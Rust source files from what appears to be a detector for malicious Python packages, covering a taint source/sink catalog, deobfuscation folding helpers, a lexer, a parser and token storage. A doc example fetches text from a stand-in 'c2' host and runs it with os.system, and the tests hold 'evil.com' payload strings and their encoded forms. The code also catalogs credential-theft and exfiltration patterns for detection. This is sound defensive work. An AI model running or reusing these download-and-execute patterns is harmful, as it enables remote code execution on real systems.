    fn exact_source_and_sink_lookups() {
        assert_eq!(source_of("os.environ"), Some(SourceKind::Env));
        assert_eq!(source_of("requests.get"), Some(SourceKind::NetFetch));
        assert_eq!(source_of("requests.post"), None);
        assert_eq!(sink_of("requests.post"), Some(SinkKind::NetSend));
        assert_eq!(sink_of("os.system"), Some(SinkKind::ProcExec));
        assert_eq!(sink_of("requests.get"), None);
    }

    #[test]
    fn suffix_rules_match_unknown_receivers() {
        assert_eq!(source_of("conn.recv"), Some(SourceKind::SocketRecv));
        assert_eq!(
            source_of("socket.socket.recv"),
            Some(SourceKind::SocketRecv)
        );
        assert_eq!(sink_of("conn.send"), Some(SinkKind::SocketSend));
        assert_eq!(sink_of("sock.sendall"), Some(SinkKind::SocketSend));
        // The bare names are not suffix matches.
        assert_eq!(source_of("recv"), None);
        assert_eq!(sink_of("send"), None);
    }

    #[test]
    fn dual_role_paths() {
        // Reads a process's output *and* runs a command: both a source
        // and a sink, depending on which side of the call the taint is.
        assert_eq!(
            source_of("subprocess.check_output"),
            Some(SourceKind::ProcRead)
        );
        assert_eq!(sink_of("subprocess.check_output"), Some(SinkKind::ProcExec));
    }

    #[test]
    fn startup_paths() {
        assert!(is_startup_path("~/.bashrc"));
        assert!(is_startup_path("/etc/hosts"));
        assert!(is_startup_path(
            "/usr/lib/python3/site-packages/requests/__init__.py"
        ));
        assert!(!is_startup_path("/tmp/data.txt"));
        assert!(!is_startup_path("version.txt"));
    }
}

//! Constant-string folding primitives.
//!
//! The obfuscator's string arm rewrites `'evil.com'` into
//! `('ev' + 'il' + '.com')`, `bytes.fromhex('6576696c2e636f6d')
//! .decode('utf-8')` or `__import__('base64').b64decode('ZXZpbC5jb20=')
//! .decode('utf-8')`. Each helper here inverts one of those runtime
//! shapes given already-constant operands; the engine composes them
//! bottom-up so arbitrarily nested chains collapse to the original
//! literal.

/// `base64.b64decode(const)` — returns the decoded text.
pub fn fold_b64decode(arg: &str) -> Option<String> {
    let decoded = digest::base64::decode(arg.trim()).ok()?;
    Some(lossy_text(&decoded))
}

/// `bytes.fromhex(const)` — returns the decoded text.
pub fn fold_fromhex(arg: &str) -> Option<String> {
    let compact: String = arg.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.is_empty() || !compact.len().is_multiple_of(2) {
        return None;
    }
    let mut out = Vec::with_capacity(compact.len() / 2);
    let bytes = compact.as_bytes();
    for pair in bytes.chunks(2) {
        let hi = (pair[0] as char).to_digit(16)?;
        let lo = (pair[1] as char).to_digit(16)?;
        out.push((hi * 16 + lo) as u8);
    }
    Some(lossy_text(&out))
}

/// `chr(const_num)` — returns the one-character string.
pub fn fold_chr(arg: &str) -> Option<String> {
    let n: u32 = arg.trim().parse().ok()?;
    char::from_u32(n).map(|c| c.to_string())
}

/// `fmt % value` with a single conversion — substitutes `%s`/`%d`/`%r`.
pub fn fold_percent(fmt: &str, value: &str) -> Option<String> {
    for conv in ["%s", "%d", "%r"] {
        if fmt.matches(conv).count() == 1 && fmt.matches('%').count() == 1 {
            return Some(fmt.replacen(conv, value, 1));
        }
    }
    None
}

/// True for string methods that preserve a constant receiver
/// (`.decode('utf-8')` on folded bytes, `.strip()`, `.lower()`, ...).
pub fn const_preserving_method(name: &str) -> bool {
    matches!(
        name,
        "decode" | "encode" | "strip" | "lstrip" | "rstrip" | "lower" | "upper" | "format"
    )
}

/// Decoded bytes as text: UTF-8 when valid, Latin-1-style fallback
/// otherwise (mirrors the tolerant lexer, keeps every byte visible).
fn lossy_text(bytes: &[u8]) -> String {
    match std::str::from_utf8(bytes) {
        Ok(s) => s.to_owned(),
        Err(_) => bytes.iter().map(|&b| b as char).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn b64_roundtrip() {
        let enc = digest::base64::encode(b"evil.com/payload");
        assert_eq!(fold_b64decode(&enc).as_deref(), Some("evil.com/payload"));
        assert_eq!(fold_b64decode("!!!"), None);
    }

    #[test]
    fn hex_roundtrip() {
        assert_eq!(fold_fromhex("6576696c"), Some("evil".into()));
        assert_eq!(fold_fromhex("65 76 69 6c"), Some("evil".into()));
        assert_eq!(fold_fromhex("zz"), None);
        assert_eq!(fold_fromhex("657"), None);
    }

    #[test]
    fn chr_and_percent() {
        assert_eq!(fold_chr("101").as_deref(), Some("e"));
        assert_eq!(fold_chr("xx"), None);
        assert_eq!(
            fold_percent("https://%s/x", "c2.evil").as_deref(),
            Some("https://c2.evil/x")
        );
        // Two conversions can't be filled from one value.
        assert_eq!(fold_percent("%s:%s", "a"), None);
    }
}

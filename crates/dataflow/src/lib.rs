//! `dataflow` — behavioral taint analysis over [`pysrc::Module`] trees.
//!
//! Every other detector in the pipeline keys on literal text, and the
//! robustness harness shows what that costs: renaming and call
//! indirection erode recall because the *names* change while the
//! *behavior* — read credentials → exfiltrate, download → exec,
//! decode → eval — does not. This crate recovers the behavior:
//!
//! * A declarative **catalog** ([`catalog`]) of taint sources
//!   (environment/credential/file reads, `socket.recv`,
//!   `urllib`/`requests` fetches, `input`) and sinks (`exec`/`eval`/
//!   `compile`, `subprocess`/`os.system`, socket send / HTTP post,
//!   file writes to startup paths).
//! * An **intra-procedural taint engine** ([`analyze`]) propagating
//!   value flow through `Assign` targets, call arguments, attribute
//!   chains, `BinOp` concatenation and `with`/`for` block headers,
//!   with alias resolution through `import ... as` bindings so
//!   `import os as o; o.system(cmd)` still reads as `os.system`.
//! * A **constant-string folder** evaluating constant concatenation,
//!   `%`-formatting, `base64.b64decode`, `bytes.fromhex` and `chr`
//!   chains. Recovered constants are reported as [`FoldedConst`]s so
//!   the scan layer can re-expose them to literal rules as synthetic
//!   decoded layers, and `getattr(__import__("m"), "f")` indirection
//!   folds back to the dotted callee path `m.f`.
//!
//! Each detected flow carries its full source→sink step chain with
//! source lines ([`FlowFinding::steps`]), so a verdict stays
//! explainable: *which* call tainted *which* variable, and where it
//! reached the sink.
//!
//! The analysis is deliberately intra-procedural and single-pass: it
//! never iterates to a fixpoint, so cost is linear in statement count
//! and results are deterministic — properties the per-digest artifact
//! cache in `scanhub` relies on. `docs/threat_model.md` records what
//! escapes this scope.
//!
//! # Examples
//!
//! ```
//! let module = pysrc::parse_module(
//!     "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n",
//! );
//! let summary = dataflow::analyze(&module);
//! assert_eq!(summary.flows.len(), 1);
//! assert_eq!(summary.flows[0].source, "requests.get");
//! assert_eq!(summary.flows[0].sink, "os.system");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod catalog;
mod engine;
mod fold;

pub use catalog::{SinkKind, SourceKind};
pub use engine::analyze;

/// One step in a source→sink chain: a source read, an assignment that
/// carried the taint, or the sink call itself.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FlowStep {
    /// 1-based source line.
    pub line: u32,
    /// Human-readable description (`cmd = requests.get(...)`).
    pub note: String,
}

/// A complete source→sink taint flow.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FlowFinding {
    /// Behavior label, `flow:net-fetch->proc-exec`.
    pub label: String,
    /// Canonical source path (`requests.get`, after alias resolution).
    pub source: String,
    /// Canonical sink path (`os.system`).
    pub sink: String,
    /// The step chain from source to sink, in program order.
    pub steps: Vec<FlowStep>,
}

/// A constant string recovered by folding a non-literal expression
/// (concatenation, decode chain, `%`-format). Surface rules never saw
/// this text; re-scanning it closes the string-splitting gap.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FoldedConst {
    /// 1-based source line of the folded expression.
    pub line: u32,
    /// The recovered constant.
    pub text: String,
}

/// The per-module analysis result: flows plus recovered constants,
/// both sorted and deduplicated.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TaintSummary {
    /// Source→sink flows, sorted by (label, source, sink).
    pub flows: Vec<FlowFinding>,
    /// Folded constants, sorted by (line, text).
    pub folded: Vec<FoldedConst>,
}

impl TaintSummary {
    /// Heap bytes held by the summary (for cache accounting).
    pub fn stored_bytes(&self) -> usize {
        let flows: usize = self
            .flows
            .iter()
            .map(|f| {
                f.label.len()
                    + f.source.len()
                    + f.sink.len()
                    + f.steps
                        .iter()
                        .map(|s| s.note.len() + std::mem::size_of::<FlowStep>())
                        .sum::<usize>()
                    + std::mem::size_of::<FlowFinding>()
            })
            .sum();
        let folded: usize = self
            .folded
            .iter()
            .map(|c| c.text.len() + std::mem::size_of::<FoldedConst>())
            .sum();
        flows + folded
    }
}

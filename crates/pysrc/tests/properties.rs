//! Property-based tests: the tolerant parser must accept anything and
//! the lexer's indentation bookkeeping must always balance.

use proptest::prelude::*;
use pysrc::TokenKind;

proptest! {
    #[test]
    fn parser_never_panics(src in "[ -~\\n]{0,400}") {
        let _ = pysrc::parse_module(&src);
    }

    #[test]
    fn lexer_indents_and_dedents_balance(src in "[a-z(): \\n]{0,300}") {
        let tokens = pysrc::lex(&src);
        let indents = tokens.iter().filter(|t| t.kind == TokenKind::Indent).count();
        let dedents = tokens.iter().filter(|t| t.kind == TokenKind::Dedent).count();
        prop_assert_eq!(indents, dedents);
        prop_assert_eq!(&tokens.last().expect("eof token").kind, &TokenKind::Eof);
    }

    /// The splice's foundational assumption (ISSUE 10): spanned tokens
    /// are in source order, content spans never overlap, and every span
    /// stays inside the source.
    #[test]
    fn lex_spanned_spans_are_in_order_and_disjoint(src in "[ -~\\n]{0,400}") {
        let tokens = pysrc::lex_spanned(&src);
        let mut last_end = 0usize;
        let mut last_line = 1usize;
        for t in &tokens {
            prop_assert!(t.start <= t.end, "inverted span {t:?}");
            prop_assert!(t.end <= src.len(), "span out of bounds {t:?}");
            prop_assert!(t.token.line >= last_line, "line went backwards {t:?}");
            last_line = t.token.line;
            if t.end > t.start {
                prop_assert!(t.start >= last_end, "overlapping spans at {t:?}");
                last_end = t.end;
            }
        }
    }

    /// Slicing the source by a content token's span and re-lexing the
    /// slice reproduces that token — spans are exact, not approximate.
    /// (Newline tokens are skipped: a lone "\n" is a blank line and
    /// lexes to nothing.)
    #[test]
    fn lex_spanned_slices_roundtrip_their_tokens(src in "[ -~\\n]{0,300}") {
        for t in pysrc::lex_spanned(&src) {
            if t.end == t.start || matches!(t.kind(), TokenKind::Newline) {
                continue;
            }
            let slice = &src[t.start..t.end];
            let relexed = pysrc::lex_spanned(slice);
            let first = relexed.first().expect("non-empty slice lexes");
            prop_assert_eq!(
                &first.token.kind,
                t.kind(),
                "slice {:?} did not round-trip",
                slice
            );
        }
    }

    /// Offset relexing agrees with the full lex at every column-zero
    /// statement boundary — the exact contract the artifact splicer
    /// relies on when it relexes only an edited window.
    #[test]
    fn lex_starts_at_agrees_with_full_lex_at_boundaries(
        lines in prop::collection::vec("[a-z][a-z0-9 =+.()']{0,20}", 1..8)
    ) {
        let src = format!("{}\n", lines.join("\n"));
        let full = pysrc::lex_spanned(&src);
        for (i, t) in full.iter().enumerate() {
            let boundary = matches!(t.kind(), TokenKind::Newline)
                && t.end - t.start == 1
                && full[i + 1].token.col == 0
                && full[i + 1].end > full[i + 1].start
                && !matches!(full[i + 1].kind(), TokenKind::Comment(_));
            if !boundary {
                continue;
            }
            let suffix = pysrc::lex_starts_at(&src, full[i + 1].start);
            prop_assert_eq!(&suffix[..], &full[i + 1..], "diverged at {}", full[i + 1].start);
        }
    }

    #[test]
    fn string_literals_roundtrip(value in "[a-zA-Z0-9 ./:_-]{0,40}") {
        let src = format!("x = '{value}'\n");
        let module = pysrc::parse_module(&src);
        let strings = pysrc::collect_strings(&module);
        prop_assert_eq!(strings.len(), 1);
        prop_assert_eq!(strings[0].0, value.as_str());
    }

    #[test]
    fn call_paths_roundtrip(a in "[a-z]{1,8}", b in "[a-z]{1,8}", c in "[a-z]{1,8}") {
        let src = format!("{a}.{b}.{c}(arg)\n");
        let module = pysrc::parse_module(&src);
        let calls = pysrc::collect_calls(&module);
        prop_assert_eq!(calls.len(), 1);
        prop_assert_eq!(calls[0].func_path(), format!("{a}.{b}.{c}"));
    }

    #[test]
    fn imports_roundtrip(names in prop::collection::vec("[a-z]{2,10}", 1..4)) {
        let src = format!("import {}\n", names.join(", "));
        let module = pysrc::parse_module(&src);
        let found = pysrc::collect_imports(&module);
        for n in &names {
            prop_assert!(found.contains(n), "{n} missing from {found:?}");
        }
    }

    #[test]
    fn nested_functions_all_visible(depth in 1usize..6) {
        let mut src = String::new();
        for d in 0..depth {
            src.push_str(&"    ".repeat(d));
            src.push_str(&format!("def f{d}():\n"));
        }
        src.push_str(&"    ".repeat(depth));
        src.push_str("os.system('x')\n");
        let module = pysrc::parse_module(&src);
        let calls = pysrc::collect_calls(&module);
        prop_assert_eq!(calls.len(), 1, "src:\n{}", src);
    }
}

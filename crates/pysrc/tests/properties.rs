//! Property-based tests: the tolerant parser must accept anything and
//! the lexer's indentation bookkeeping must always balance.

use proptest::prelude::*;
use pysrc::TokenKind;

proptest! {
    #[test]
    fn parser_never_panics(src in "[ -~\\n]{0,400}") {
        let _ = pysrc::parse_module(&src);
    }

    #[test]
    fn lexer_indents_and_dedents_balance(src in "[a-z(): \\n]{0,300}") {
        let tokens = pysrc::lex(&src);
        let indents = tokens.iter().filter(|t| t.kind == TokenKind::Indent).count();
        let dedents = tokens.iter().filter(|t| t.kind == TokenKind::Dedent).count();
        prop_assert_eq!(indents, dedents);
        prop_assert_eq!(&tokens.last().expect("eof token").kind, &TokenKind::Eof);
    }

    #[test]
    fn string_literals_roundtrip(value in "[a-zA-Z0-9 ./:_-]{0,40}") {
        let src = format!("x = '{value}'\n");
        let module = pysrc::parse_module(&src);
        let strings = pysrc::collect_strings(&module);
        prop_assert_eq!(strings.len(), 1);
        prop_assert_eq!(strings[0].0, value.as_str());
    }

    #[test]
    fn call_paths_roundtrip(a in "[a-z]{1,8}", b in "[a-z]{1,8}", c in "[a-z]{1,8}") {
        let src = format!("{a}.{b}.{c}(arg)\n");
        let module = pysrc::parse_module(&src);
        let calls = pysrc::collect_calls(&module);
        prop_assert_eq!(calls.len(), 1);
        prop_assert_eq!(calls[0].func_path(), format!("{a}.{b}.{c}"));
    }

    #[test]
    fn imports_roundtrip(names in prop::collection::vec("[a-z]{2,10}", 1..4)) {
        let src = format!("import {}\n", names.join(", "));
        let module = pysrc::parse_module(&src);
        let found = pysrc::collect_imports(&module);
        for n in &names {
            prop_assert!(found.contains(n), "{n} missing from {found:?}");
        }
    }

    #[test]
    fn nested_functions_all_visible(depth in 1usize..6) {
        let mut src = String::new();
        for d in 0..depth {
            src.push_str(&"    ".repeat(d));
            src.push_str(&format!("def f{d}():\n"));
        }
        src.push_str(&"    ".repeat(depth));
        src.push_str("os.system('x')\n");
        let module = pysrc::parse_module(&src);
        let calls = pysrc::collect_calls(&module);
        prop_assert_eq!(calls.len(), 1, "src:\n{}", src);
    }
}

//! Token model for the Python lexer.

/// The kind of a lexed token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// Identifier or keyword (`def`, `import`, names, ...).
    Ident(String),
    /// Integer or float literal, kept as text.
    Number(String),
    /// String literal with quotes stripped and prefix recorded.
    Str {
        /// Decoded contents (no quotes).
        value: String,
        /// Prefix letters (`b`, `r`, `f`, ...), lowercased.
        prefix: String,
    },
    /// A single operator or punctuation glyph sequence (`==`, `.`, `(`...).
    Op(String),
    /// Logical end of line.
    Newline,
    /// Indentation increased.
    Indent,
    /// Indentation decreased.
    Dedent,
    /// `# ...` comment (kept: analyzers look for commented-out IOC hints).
    Comment(String),
    /// End of input.
    Eof,
}

/// A token with its source position.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What was lexed.
    pub kind: TokenKind,
    /// 1-based line number.
    pub line: usize,
    /// 0-based column of the first byte.
    pub col: usize,
}

/// A token plus the byte span of `source` it was lexed from.
///
/// Synthesized tokens (INDENT/DEDENT, the final NEWLINE/EOF) carry an
/// empty span at the position they were synthesized. For every other
/// token, `source[start..end]` is the exact raw text — including quotes
/// and prefixes for strings — which is what source-to-source rewriters
/// (the `obfuscate` crate) splice against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpannedToken {
    /// The token.
    pub token: Token,
    /// Byte offset of the first byte of the token in the source.
    pub start: usize,
    /// Byte offset one past the last byte of the token.
    pub end: usize,
}

impl SpannedToken {
    /// The token kind (convenience passthrough).
    pub fn kind(&self) -> &TokenKind {
        &self.token.kind
    }
}

impl Token {
    /// Returns the identifier text if this token is an identifier.
    pub fn as_ident(&self) -> Option<&str> {
        match &self.kind {
            TokenKind::Ident(s) => Some(s),
            _ => None,
        }
    }

    /// Returns true when the token is the given operator glyph.
    pub fn is_op(&self, op: &str) -> bool {
        matches!(&self.kind, TokenKind::Op(s) if s == op)
    }
}

/// Python keywords recognised by the block splitter (§IV-A of the paper
/// keys basic-unit boundaries on these).
pub const KEYWORDS: &[&str] = &[
    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue",
    "def", "del", "elif", "else", "except", "finally", "for", "from", "global", "if", "import",
    "in", "is", "lambda", "nonlocal", "not", "or", "pass", "raise", "return", "try", "while",
    "with", "yield",
];

/// Returns true when `word` is a Python keyword.
pub fn is_keyword(word: &str) -> bool {
    KEYWORDS.contains(&word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyword_lookup() {
        assert!(is_keyword("def"));
        assert!(is_keyword("class"));
        assert!(!is_keyword("definitely"));
    }

    #[test]
    fn token_helpers() {
        let t = Token {
            kind: TokenKind::Ident("os".into()),
            line: 1,
            col: 0,
        };
        assert_eq!(t.as_ident(), Some("os"));
        assert!(!t.is_op("."));
        let op = Token {
            kind: TokenKind::Op(".".into()),
            line: 1,
            col: 2,
        };
        assert!(op.is_op("."));
    }
}

//! Shared-storage token streams for incremental relexing.
//!
//! A [`TokenRope`] is a token stream stored as a short list of segments,
//! each a reference-counted slice of some lexed `Vec<SpannedToken>` plus
//! a byte/line shift to rebase it into the owning file's coordinates.
//! The incremental artifact splicer builds the token stream of a new
//! file version as `prefix ++ relexed window ++ suffix`, where prefix
//! and suffix are segments of the *previous* version's rope: assembling
//! the spliced stream costs a handful of segment descriptors instead of
//! deep-cloning thousands of tokens (every clone re-allocates each
//! token's text, which profiles as expensive as relexing from scratch).
//!
//! Shifts are applied lazily, at read time, through [`TokenView`]:
//! iteration yields each token's rebased byte span and line without ever
//! touching the shared storage. Columns never shift (an edit moves
//! statements down or sideways in bytes, never re-indents unchanged
//! lines), so `TokenView` exposes the raw token for kind/column access
//! and overrides only `line`, `start` and `end`.

use std::fmt;
use std::ops::Range;
use std::sync::Arc;

use crate::token::{SpannedToken, Token, TokenKind};

/// One shared slice of lexed tokens with a lazy coordinate rebase.
#[derive(Clone)]
struct Segment {
    source: Arc<Vec<SpannedToken>>,
    /// Token index range into `source`.
    range: Range<usize>,
    /// Added to every token's byte `start`/`end` at read time.
    byte_shift: isize,
    /// Added to every token's 1-based `line` at read time.
    line_shift: isize,
}

/// A token stream assembled from shared segments. See the module docs.
#[derive(Clone, Default)]
pub struct TokenRope {
    segments: Vec<Segment>,
    len: usize,
}

/// A read-time view of one rope token with its rebased coordinates.
///
/// `token` is the raw shared token: its `kind` and `col` are valid as
/// stored, but its `line` may predate a splice — always read the line
/// (and the byte span) from the view's own fields.
#[derive(Clone, Copy)]
pub struct TokenView<'a> {
    /// The raw token (valid `kind` and `col`; see the type docs for `line`).
    pub token: &'a Token,
    /// Rebased 1-based line number.
    pub line: usize,
    /// Rebased byte offset of the first byte.
    pub start: usize,
    /// Rebased byte offset one past the last byte.
    pub end: usize,
}

impl TokenView<'_> {
    /// The token kind (convenience passthrough).
    pub fn kind(&self) -> &TokenKind {
        &self.token.kind
    }

    /// Materializes this view as an owned token in rope coordinates.
    pub fn to_spanned(&self) -> SpannedToken {
        SpannedToken {
            token: Token {
                kind: self.token.kind.clone(),
                line: self.line,
                col: self.token.col,
            },
            start: self.start,
            end: self.end,
        }
    }
}

impl TokenRope {
    /// Wraps a freshly lexed token vector (one segment, no shifts).
    pub fn from_tokens(tokens: Vec<SpannedToken>) -> Self {
        let len = tokens.len();
        if len == 0 {
            return TokenRope::default();
        }
        TokenRope {
            segments: vec![Segment {
                source: Arc::new(tokens),
                range: 0..len,
                byte_shift: 0,
                line_shift: 0,
            }],
            len,
        }
    }

    /// Number of tokens in the stream.
    pub fn len(&self) -> usize {
        self.len
    }

    /// True when the stream holds no tokens.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Number of storage segments (splice fragmentation metric).
    pub fn segment_count(&self) -> usize {
        self.segments.len()
    }

    /// Iterates the stream in order, yielding rebased views.
    pub fn iter(&self) -> impl Iterator<Item = TokenView<'_>> {
        self.segments.iter().flat_map(|seg| {
            seg.source[seg.range.clone()]
                .iter()
                .map(move |t| TokenView {
                    token: &t.token,
                    line: t.token.line.saturating_add_signed(seg.line_shift),
                    start: t.start.saturating_add_signed(seg.byte_shift),
                    end: t.end.saturating_add_signed(seg.byte_shift),
                })
        })
    }

    /// A sub-rope over token indices `range`, sharing this rope's
    /// storage (no token is cloned).
    ///
    /// # Panics
    ///
    /// Panics when `range` exceeds `len()` or is decreasing.
    pub fn slice(&self, range: Range<usize>) -> TokenRope {
        assert!(range.start <= range.end && range.end <= self.len);
        let mut out = TokenRope::default();
        let mut base = 0usize;
        for seg in &self.segments {
            let seg_len = seg.range.len();
            let lo = range.start.max(base).min(base + seg_len);
            let hi = range.end.max(base).min(base + seg_len);
            if lo < hi {
                out.segments.push(Segment {
                    source: Arc::clone(&seg.source),
                    range: seg.range.start + (lo - base)..seg.range.start + (hi - base),
                    byte_shift: seg.byte_shift,
                    line_shift: seg.line_shift,
                });
                out.len += hi - lo;
            }
            base += seg_len;
        }
        out
    }

    /// Appends freshly lexed tokens (already in this rope's coordinates)
    /// as a new segment.
    pub fn push_tokens(&mut self, tokens: Vec<SpannedToken>) {
        if tokens.is_empty() {
            return;
        }
        self.len += tokens.len();
        let range = 0..tokens.len();
        self.segments.push(Segment {
            source: Arc::new(tokens),
            range,
            byte_shift: 0,
            line_shift: 0,
        });
    }

    /// Appends token indices `range` of `other`, rebased by a further
    /// `byte_shift`/`line_shift` on top of `other`'s own shifts — the
    /// suffix half of a splice, moved by the edit's net byte and line
    /// deltas. Shares `other`'s storage.
    ///
    /// # Panics
    ///
    /// Panics when `range` exceeds `other.len()` or is decreasing.
    pub fn push_slice_shifted(
        &mut self,
        other: &TokenRope,
        range: Range<usize>,
        byte_shift: isize,
        line_shift: isize,
    ) {
        let mut piece = other.slice(range);
        for seg in &mut piece.segments {
            seg.byte_shift += byte_shift;
            seg.line_shift += line_shift;
        }
        self.len += piece.len;
        self.segments.append(&mut piece.segments);
    }

    /// Materializes the whole stream as owned tokens in rope
    /// coordinates (what a fresh full lex would have produced).
    pub fn to_vec(&self) -> Vec<SpannedToken> {
        let mut out = Vec::with_capacity(self.len);
        out.extend(self.iter().map(|v| v.to_spanned()));
        out
    }

    /// Copies the stream into a single owned segment when splice chains
    /// have fragmented it past `max_segments`. Long version histories
    /// add ~2 segments per splice; consolidating every few dozen
    /// generations bounds iteration overhead and releases retired
    /// window storage, amortizing one deep copy over the chain.
    pub fn consolidate_if_fragmented(&mut self, max_segments: usize) {
        if self.segments.len() > max_segments {
            *self = TokenRope::from_tokens(self.to_vec());
        }
    }
}

impl PartialEq for TokenRope {
    fn eq(&self, other: &Self) -> bool {
        self.len == other.len
            && self.iter().zip(other.iter()).all(|(a, b)| {
                a.token.kind == b.token.kind
                    && a.token.col == b.token.col
                    && a.line == b.line
                    && a.start == b.start
                    && a.end == b.end
            })
    }
}

impl Eq for TokenRope {}

impl fmt::Debug for TokenRope {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list()
            .entries(self.iter().map(|v| v.to_spanned()))
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex_spanned;

    const SRC: &str = "import os\nx = 1\nos.system('id')\n";

    #[test]
    fn from_tokens_round_trips() {
        let tokens = lex_spanned(SRC);
        let rope = TokenRope::from_tokens(tokens.clone());
        assert_eq!(rope.len(), tokens.len());
        assert_eq!(rope.segment_count(), 1);
        assert_eq!(rope.to_vec(), tokens);
        assert_eq!(rope, TokenRope::from_tokens(tokens));
    }

    #[test]
    fn slice_shares_storage_and_preserves_coordinates() {
        let tokens = lex_spanned(SRC);
        let rope = TokenRope::from_tokens(tokens.clone());
        let mid = rope.slice(2..7);
        assert_eq!(mid.len(), 5);
        assert_eq!(mid.to_vec(), tokens[2..7].to_vec());
        assert!(rope.slice(0..0).is_empty());
        assert_eq!(rope.slice(0..rope.len()).to_vec(), tokens);
    }

    #[test]
    fn shifted_suffix_rebases_spans_and_lines_lazily() {
        let tokens = lex_spanned(SRC);
        let rope = TokenRope::from_tokens(tokens.clone());
        let mut spliced = TokenRope::default();
        spliced.push_slice_shifted(&rope, 0..rope.len(), 7, 2);
        assert_eq!(spliced.len(), tokens.len());
        for (view, raw) in spliced.iter().zip(&tokens) {
            assert_eq!(view.start, raw.start + 7);
            assert_eq!(view.end, raw.end + 7);
            assert_eq!(view.line, raw.token.line + 2);
            assert_eq!(view.token.col, raw.token.col, "columns never shift");
            assert_eq!(view.kind(), &raw.token.kind);
        }
        // Materialized tokens carry the rebased coordinates.
        let owned = spliced.to_vec();
        assert_eq!(owned[0].start, tokens[0].start + 7);
        assert_eq!(owned[0].token.line, tokens[0].token.line + 2);
    }

    #[test]
    fn splice_shape_equals_full_relex() {
        // prefix of v1 ++ fresh window ++ shifted suffix of v1 == lex(v2)
        let v1 = "import os\nA = 'one'\nos.system('id')\n";
        let v2 = "import os\nA = 'three'\nos.system('id')\n";
        let full1 = lex_spanned(v1);
        let full2 = lex_spanned(v2);
        // Window: the middle statement (tokens differ only there).
        let prefix = full2.iter().zip(&full1).take_while(|(a, b)| a == b).count();
        let rope1 = TokenRope::from_tokens(full1.clone());
        let mut spliced = rope1.slice(0..prefix);
        // Relex the window plus everything after, then keep the window
        // and share the suffix instead: here we just exercise shapes by
        // splicing the full tail with the byte delta.
        let delta = v2.len() as isize - v1.len() as isize;
        let window: Vec<_> = full2[prefix..prefix + 5].to_vec();
        spliced.push_tokens(window);
        spliced.push_slice_shifted(&rope1, prefix + 5..full1.len(), delta, 0);
        assert_eq!(spliced.to_vec(), full2);
        assert_eq!(spliced, TokenRope::from_tokens(full2));
        assert_eq!(spliced.segment_count(), 3);
    }

    #[test]
    fn consolidation_flattens_fragmented_chains() {
        let tokens = lex_spanned(SRC);
        let rope = TokenRope::from_tokens(tokens.clone());
        let mut frag = TokenRope::default();
        for i in 0..tokens.len() {
            frag.push_slice_shifted(&rope, i..i + 1, 0, 0);
        }
        assert_eq!(frag.segment_count(), tokens.len());
        let before = frag.to_vec();
        frag.consolidate_if_fragmented(4);
        assert_eq!(frag.segment_count(), 1);
        assert_eq!(frag.to_vec(), before);
        // Under the threshold nothing happens.
        let mut small = rope.slice(0..3);
        small.consolidate_if_fragmented(4);
        assert_eq!(small.segment_count(), 1);
    }
}

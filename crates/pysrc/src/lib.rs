//! `pysrc` — Python source substrate for the RuleLLM reproduction.
//!
//! The paper's malicious packages are PyPI source distributions: the
//! Semgrep engine must match structural patterns against Python code, the
//! basic-unit splitter must find block boundaries (`def `, `class `,
//! `if `, ... — §IV-A), and the tokenize step of the embedding pipeline
//! needs a Python lexer (§V-A implements it with Python's `tokenize`
//! module). This crate provides all three from scratch:
//!
//! * [`lex`] — an indentation-aware tokenizer (strings, comments, triple
//!   quotes, line continuations, INDENT/DEDENT synthesis).
//! * [`lex_starts_at`] / [`lex_window`] — offset-based relexing of an
//!   edited byte range in full-source coordinates, the primitive the
//!   incremental artifact splicer builds on ([`parse_tokens`] is its
//!   parser-side counterpart).
//! * [`TokenRope`] — segment-shared token storage with lazy coordinate
//!   rebasing, so a spliced version's stream reuses the previous
//!   version's prefix and suffix without cloning a single token.
//! * [`parse_module`] — a tolerant, lightweight parser producing a
//!   statement/expression tree sufficient for pattern matching. Unparsable
//!   lines degrade to [`Stmt::Other`] instead of failing: rule scanning
//!   must survive obfuscated or broken malware code.
//! * Call/import/string collectors used by the analyzers.
//! * [`intern_strings`] — a deduplicated string-literal table built from
//!   the spanned token stream, the literal view that per-file analysis
//!   artifacts carry for decoded-layer extraction.
//!
//! # Examples
//!
//! ```
//! let module = pysrc::parse_module("import os\nos.system('id')\n");
//! let calls = pysrc::collect_calls(&module);
//! assert_eq!(calls[0].func_path(), "os.system");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod ast;
mod lexer;
mod parser;
mod rope;
mod strings;
mod token;

pub use ast::{Arg, Expr, ImportedName, Module, Stmt};
pub use lexer::{lex, lex_spanned, lex_starts_at, lex_window, WindowLex};
pub use parser::{parse_module, parse_tokens};
pub use rope::{TokenRope, TokenView};
pub use strings::{intern_rope, intern_strings, StringRef, StringTable};
pub use token::{is_keyword, SpannedToken, Token, TokenKind, KEYWORDS};

/// Collects every call expression in the module, depth-first.
pub fn collect_calls(module: &Module) -> Vec<&Expr> {
    let mut out = Vec::new();
    for stmt in &module.body {
        collect_calls_stmt(stmt, &mut out);
    }
    out
}

fn collect_calls_stmt<'a>(stmt: &'a Stmt, out: &mut Vec<&'a Expr>) {
    match stmt {
        Stmt::Expr { value, .. }
        | Stmt::Assign { value, .. }
        | Stmt::Return {
            value: Some(value), ..
        } => collect_calls_expr(value, out),
        Stmt::FunctionDef { body, .. } | Stmt::ClassDef { body, .. } | Stmt::Block { body, .. } => {
            for s in body {
                collect_calls_stmt(s, out);
            }
        }
        _ => {}
    }
}

